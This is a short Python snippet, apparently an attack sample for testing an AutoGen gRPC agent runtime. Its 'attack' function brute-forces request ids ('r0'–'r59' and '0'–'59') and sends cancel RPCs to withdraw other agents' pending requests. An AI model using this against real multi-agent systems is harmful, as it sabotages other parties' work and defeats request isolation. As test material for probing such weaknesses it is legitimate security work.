"""Withdraw the requests of others, by guessing their ids."""


async def attack(agent, message, ctx, targets):
    from autogen_ext.runtimes.grpc.protos import agent_worker_pb2 as pb

    for number in range(60):
        for name in (f"r{number}", str(number)):
            await connection(agent).send(pb.Message(request=pb.RpcRequest(request_id=name, method="cancel")))
